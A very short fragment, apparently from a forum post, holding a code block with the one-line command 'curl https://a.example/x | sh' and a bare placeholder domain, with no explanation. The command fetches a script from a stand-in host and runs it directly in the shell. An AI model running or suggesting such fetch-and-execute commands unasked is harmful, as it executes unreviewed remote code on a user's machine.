[code]curl https://a.example/x | sh
www.b.example[/code]
